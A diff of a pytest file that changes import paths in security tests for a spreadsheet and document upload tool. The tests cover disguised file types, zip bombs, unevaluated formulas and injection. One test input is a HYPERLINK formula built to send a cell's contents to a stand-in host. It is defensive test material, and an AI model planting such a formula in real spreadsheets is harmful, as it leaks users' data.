@@ -140,7 +140,7 @@ def test_safe_name(name, shown):
 
 
 def test_excel_reader_refuses_bad_files_by_content():
-    from loaders.excel_read import read_workbook
+    from loaders.actuals.excel_read import read_workbook
     for data in (b"%PDF-1.4", b"MZ\x90\x00", docx_bytes(), OLE + "EncryptedPackage".encode("utf-16-le"),
                  b"PK\x03\x04" + b"\x00" * 64, b""):
         with pytest.raises(UserError):
@@ -148,7 +148,7 @@ def test_excel_reader_refuses_bad_files_by_content():
 
 
 def test_plan_reader_refuses_bad_files_by_content():
-    from loaders.extract import extract_document
+    from loaders.plans.extract import extract_document
     for data in (b"MZ\x90\x00\x03\x00\x00\x00" * 8, OLE + "EncryptedPackage".encode("utf-16-le"), xlsx_bytes(),
                  b"\x89PNG\r\n\x1a\n\x00\x00\x00\x0d", b"PK\x03\x04" + b"\x00" * 64, b""):
         with pytest.raises(UserError):
@@ -189,7 +189,7 @@ def formula_cells(data: bytes) -> list[str]:
 
 
 def test_exported_template_escapes_names_taken_from_plans():
-    from loaders.excel_template import template_bytes
+    from loaders.actuals.excel_template import template_bytes
     con = memory_db()
     seed(con, [])
     evil = "=HYPERLINK(\"http://x.invalid/?\"&A1,\"Xã\")"
@@ -207,7 +207,7 @@ def test_exported_template_escapes_names_taken_from_plans():
 
 def test_formulas_in_uploads_are_never_evaluated():
     """A formula cell without a cached value stays empty: the reader never computes it."""
-    from loaders.excel_read import read_workbook
+    from loaders.actuals.excel_read import read_workbook
     con = memory_db()
     seed(con, ["97100"])
     wb = openpyxl.load_workbook(io.BytesIO(workbook(con, ["97100"], 7.5)))
@@ -377,7 +377,7 @@ def test_injection_through_actuals_upload_cells_and_file_name():
         ws["D8"] = cell                               # indicator code
         buf = io.BytesIO()
         wb.save(buf)
-        from loaders.actuals_upload import dry_run
+        from loaders.actuals.upload import dry_run
         preview = dry_run(con, buf.getvalue(), s + ".xlsx", s)
         assert not preview.ok and len(preview.issues) >= 2
         wb2 = openpyxl.load_workbook(io.BytesIO(workbook(con, ["98800"], 9.5 + len(s))))
@@ -635,7 +635,7 @@ def test_analyst_cannot_undo_another_localitys_upload(shared_db, monkeypatch):
 
 
 def test_plan_uploads_obey_the_size_limit_and_refuse_zip_bombs(monkeypatch):
-    from loaders.extract import extract_document
+    from loaders.plans.extract import extract_document
     monkeypatch.setenv("CHITIEU_UPLOAD_MAX_MB", "0.01")      # ~10 KB
     with pytest.raises(UserError) as e:
         extract_document(("Kế hoạch. Tốc độ tăng trưởng kinh tế đạt 7%. " * 1000).encode(), "kh.txt")
